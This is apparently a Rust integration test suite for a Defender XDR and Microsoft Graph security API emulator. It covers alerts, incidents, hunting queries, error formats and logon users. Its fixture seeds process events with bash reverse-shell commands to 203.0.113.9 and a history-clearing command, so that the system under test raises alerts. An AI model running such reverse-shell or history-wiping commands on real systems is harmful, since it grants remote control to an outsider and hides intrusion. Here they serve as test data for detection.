//! Graph's and Defender XDR's routes: the same alerts under other names, incidents, and hunting.

use std::time::{Duration, Instant};

use schema::col;
use serde_json::{Value as Json, json};

use crate::support::{Answer, JSON, Rig, process};

const SECURITY: &str = "/v1.0/security";

async fn send(rig: &Rig, method: &str, path: &str, body: &Json) -> Answer {
    let cookie = rig.cookie();
    rig.portal(path, &["-b", &cookie, "-H", JSON, "-X", method], Some(body.to_string().into_bytes())).await
}

/// Two alerts of one process tree, and one of another.
async fn rig() -> Rig {
    let rig = Rig::start().await;
    let device = rig.enrol("host-1").await;
    let mut rows = Vec::new();
    for (idx, (key, line)) in [
        ("p1", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("p2", "bash -c history -c"),
        ("p3", "bash -c bash -i >& /dev/tcp/203.0.113.9/4445 0>&1"),
    ]
    .into_iter()
    .enumerate()
    {
        let parent = if key == "p2" { "p1" } else { "init" };
        let mut row = process(idx as i64, key, parent, "bash");
        row.set(&col::FOLDER_PATH, "/usr/bin/bash")
            .set(&col::PROCESS_COMMAND_LINE, line)
            .set(&col::ACCOUNT_NAME, "ann");
        rows.push(row);
    }
    rig.send(&device, 1, &rows).await;
    let started = Instant::now();
    while rig.json(&format!("{SECURITY}/alerts_v2")).await["value"].as_array().unwrap().is_empty() {
        assert!(started.elapsed() < Duration::from_secs(20), "no alert");
        tokio::time::sleep(Duration::from_millis(150)).await;
    }
    // All three rows were one batch, so that their alerts are there together.
    rig
}

#[tokio::test(flavor = "multi_thread")]
async fn alerts_in_graphs_shape() {
    let rig = rig().await;
    let list = rig.json(&format!("{SECURITY}/alerts_v2?$count=true")).await;
    assert!(list["@odata.context"].as_str().unwrap().ends_with("/v1.0/$metadata#security/alerts_v2"), "{list}");
    let n_alerts = list["@odata.count"].as_u64().unwrap();
    let mde = rig.json("/api/alerts").await;
    assert_eq!(mde["value"].as_array().unwrap().len() as u64, n_alerts);
    let (alert, same) = (&list["value"][0], &mde["value"][0]);
    assert_eq!(alert["id"], same["id"]);
    assert_eq!(alert["status"], "new");
    assert_eq!(alert["severity"], same["severity"].as_str().unwrap().to_lowercase());
    assert_eq!(alert["incidentId"], same["incidentId"].to_string());
    assert_eq!(alert["createdDateTime"], same["alertCreationTime"]);
    assert_eq!(alert["evidence"][0]["mdeDeviceId"], same["machineId"]);
    assert_eq!(alert["evidence"][1]["@odata.type"], "#microsoft.graph.security.processEvidence");
    assert_eq!(alert["evidence"][1]["imageFile"]["fileName"], "bash");
    let since = alert["createdDateTime"].as_str().unwrap();
    let some = "%20and%20status%20eq%20'NEW'&$orderby=lastUpdateDateTime%20asc&$select=id,title";
    let found = rig.json(&format!("{SECURITY}/alerts_v2?$filter=createdDateTime%20ge%20{since}{some}")).await;
    assert_eq!(found["value"][0].as_object().unwrap().len(), 2, "{found}");
    let id = alert["id"].as_str().unwrap();
    let path = format!("{SECURITY}/alerts_v2/{id}");
    let change = json!({ "status": "inProgress", "classification": "truePositive", "assignedTo": "ann" });
    let changed = send(&rig, "PATCH", &path, &change).await;
    assert_eq!(changed.status, 200, "{changed:?}");
    assert_eq!(changed.json()["status"], "inProgress");
    assert_eq!(rig.json(&format!("/api/alerts/{id}")).await["classification"], "TruePositive");
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_are_linked_and_end() {
    let rig = rig().await;
    let all = rig.json(&format!("{SECURITY}/alerts_v2")).await["value"].as_array().unwrap().len();
    let (mut ids, mut next) = (Vec::new(), format!("{SECURITY}/alerts_v2?$top=1&$filter=status%20ne%20'resolved'"));
    for _ in 0..all + 3 {
        let page = rig.json(&next).await;
        ids.extend(page["value"].as_array().unwrap().iter().map(|alert| alert["id"].to_string()));
        let Some(link) = page["@odata.nextLink"].as_str() else { break };
        next = link[link.find("/v1.0").unwrap()..].to_owned();
    }
    assert_eq!(ids.len(), all);
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), all, "no alert twice");
    assert!(all >= 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn incidents_are_alerts_of_a_tree() {
    let rig = rig().await;
    let list = rig.json(&format!("{SECURITY}/incidents?$expand=alerts")).await;
    let incidents = list["value"].as_array().unwrap();
    for incident in incidents {
        for alert in incident["alerts"].as_array().unwrap() {
            assert_eq!(alert["incidentId"], incident["id"]);
        }
        assert_eq!(incident["status"], "active");
    }
    let plain = rig.json(&format!("{SECURITY}/incidents?$top=1")).await;
    assert_eq!(plain["value"][0].get("alerts"), None);
    let xdr = rig.json("/api/incidents").await;
    assert!(xdr["@odata.context"].as_str().unwrap().ends_with("/api/$metadata#Incidents"));
    assert_eq!(xdr["value"].as_array().unwrap().len(), incidents.len());
    let first = &xdr["value"][0];
    assert_eq!(first["alerts"][0]["devices"][0]["deviceDnsName"], "host-1");
    assert_eq!(first["alerts"][0]["entities"][0]["entityType"], "Process");
    let id = &first["incidentId"];
    let changed = send(&rig, "PATCH", &format!("/api/incidents/{id}"), &json!({ "status": "Resolved" })).await;
    assert_eq!((changed.status, &changed.json()["status"]), (200, &json!("Resolved")));
    let graph = rig.json(&format!("{SECURITY}/incidents/{id}?$expand=alerts")).await;
    assert_eq!(graph["status"], "resolved");
    assert!(graph["alerts"].as_array().unwrap().iter().all(|alert| alert["status"] == "resolved"));
    let filtered = rig.json("/api/incidents?$filter=status%20eq%20'Active'").await;
    assert_eq!(filtered["value"].as_array().unwrap().len(), incidents.len() - 1);
    let again = send(&rig, "PATCH", &format!("{SECURITY}/incidents/{id}"), &json!({ "status": "active" })).await;
    assert_eq!(again.json()["status"], "active", "{again:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn hunting_in_both_shapes() {
    let rig = rig().await;
    let query = "DeviceProcessEvents | where Timestamp > datetime(2000-01-01) | summarize n = count() by DeviceName";
    for path in ["/api/advancedhunting/run", "/api/advancedqueries/run", "/api/v1.0/advancedqueries/run"] {
        let answer = send(&rig, "POST", path, &json!({ "Query": query })).await.json();
        assert_eq!(answer["Schema"][1], json!({ "Name": "n", "Type": "Int64" }), "{path}: {answer}");
        assert_eq!(answer["Results"], json!([{ "DeviceName": "host-1", "n": 3 }]));
    }
    let path = format!("{SECURITY}/runHuntingQuery");
    for body in [json!({ "Query": query }), json!({ "query": query, "timespan": "P1D" })] {
        let answer = send(&rig, "POST", &path, &body).await.json();
        assert_eq!(answer["schema"][0], json!({ "name": "DeviceName", "type": "String" }), "{answer}");
        assert_eq!(answer["results"][0]["n"], 3);
    }
    let untimed = "DeviceProcessEvents | count";
    for (timespan, n_rows) in [("2026-11-24/2026-11-25", 3), ("2026-11-25/P1D", 0), ("P1D/2026-11-25", 3)] {
        let answer = send(&rig, "POST", &path, &json!({ "Query": untimed, "Timespan": timespan })).await.json();
        assert_eq!(answer["results"][0]["Count"], n_rows, "{timespan}: {answer}");
    }
    let audit = rig.json("/api/v1/audit").await;
    let hunts = audit["rows"].as_array().unwrap().iter().filter(|row| row["action"] == "hunting.run");
    assert_eq!(hunts.count(), 8);
}

#[tokio::test(flavor = "multi_thread")]
async fn errors_have_the_shape_of_their_api() {
    let rig = rig().await;
    for (method, path, body, status) in [
        ("GET", "/alerts_v2?$filter=nothing%20eq%201", json!(null), 400),
        ("GET", "/alerts_v2?$expand=nothing", json!(null), 400),
        ("GET", "/alerts_v2/nothing", json!(null), 404),
        ("GET", "/incidents/nothing", json!(null), 404),
        ("GET", "/incidents/99999", json!(null), 404),
        ("GET", "/incidents/1?$expand=evidence", json!(null), 400),
        ("PATCH", "/incidents/99999", json!({ "status": "resolved" }), 404),
        ("PATCH", "/alerts_v2/nothing", json!({}), 400),
        ("POST", "/runHuntingQuery", json!({ "Query": "Nothing | take 1" }), 400),
        ("POST", "/runHuntingQuery", json!({ "Query": "print 1", "Timespan": "soon" }), 400),
        ("POST", "/runHuntingQuery", json!({ "q": "print 1" }), 400),
    ] {
        let path = format!("{SECURITY}{path}");
        let answer = if method == "GET" { rig.get(&path).await } else { send(&rig, method, &path, &body).await };
        assert_eq!(answer.status, status, "{method} {path}: {answer:?}");
        let error = &answer.json()["error"];
        assert!(error["innerError"]["request-id"].is_string() && error["innerError"]["date"].is_string(), "{error}");
        assert!(error["code"].as_str().unwrap().starts_with(char::is_uppercase), "{error}");
    }
    let anonymous = rig.portal(&format!("{SECURITY}/alerts_v2"), &[], None).await;
    assert_eq!((anonymous.status, anonymous.json()["error"]["code"].as_str()), (401, Some("Unauthorized")));
}

#[tokio::test(flavor = "multi_thread")]
async fn what_mde_has_and_we_have_not_is_said() {
    let rig = rig().await;
    for (method, path, status) in [
        ("GET", "/api/machines/host-1/vulnerabilities", 403),
        ("GET", "/api/v1.0/machines/host-1/software", 403),
        ("GET", "/api/machines/SoftwareVulnerabilitiesByMachine?pageIndex=1", 403),
        ("POST", "/api/machines/host-1/isolate", 403),
        ("POST", "/api/machines/host-1/runAntiVirusScan", 403),
        ("POST", "/api/indicators", 403),
        ("GET", "/api/machines/nobody/vulnerabilities", 404),
        ("POST", "/api/machines/nobody/isolate", 404),
        ("GET", "/api/machines/host-1/nonsense", 404),
        ("POST", "/api/machines/host-1/nonsense", 404),
    ] {
        let answer = if method == "GET" { rig.get(path).await } else { send(&rig, method, path, &json!({})).await };
        assert_eq!(answer.status, status, "{method} {path}: {answer:?}");
        assert_eq!(answer.code(), if status == 403 { "DisabledFeature" } else { "ResourceNotFound" });
    }
    for path in ["/api/machineactions?$top=10", "/api/indicators"] {
        assert_eq!(rig.json(path).await["value"], json!([]));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn logon_users_are_those_of_the_rows() {
    let rig = Rig::start().await;
    let device = rig.enrol("host-1").await;
    let mut rows = Vec::new();
    for (idx, (action, name, kind)) in [
        ("LogonSuccess", "ann", "Network"),
        ("LogonSuccess", "ann", "Interactive"),
        ("LogonSuccess", "bob", "Network"),
        ("LogonFailed", "eve", "Network"),
    ]
    .into_iter()
    .enumerate()
    {
        let mut row = crate::support::row(idx as i64, action);
        row.set(&col::ACCOUNT_NAME, name).set(&col::LOGON_TYPE, kind).set(&col::ACCOUNT_DOMAIN, "corp");
        rows.push(row);
    }
    rig.send(&device, 1, &rows).await;
    let users = rig.json(&format!("/api/machines/{}/logonusers", device.id)).await["value"].clone();
    assert_eq!(users.as_array().unwrap().len(), 2, "{users}");
    assert_eq!((&users[0]["id"], &users[0]["isOnlyNetworkUser"]), (&json!("corp\\bob"), &json!(true)));
    assert_eq!((&users[1]["accountName"], &users[1]["logonTypes"]), (&json!("ann"), &json!("Interactive, Network")));
    assert!(users[1]["firstSeen"].as_str().unwrap() < users[1]["lastSeen"].as_str().unwrap());
    assert_eq!(rig.get("/api/machines/nobody/logonusers").await.status, 404);
}
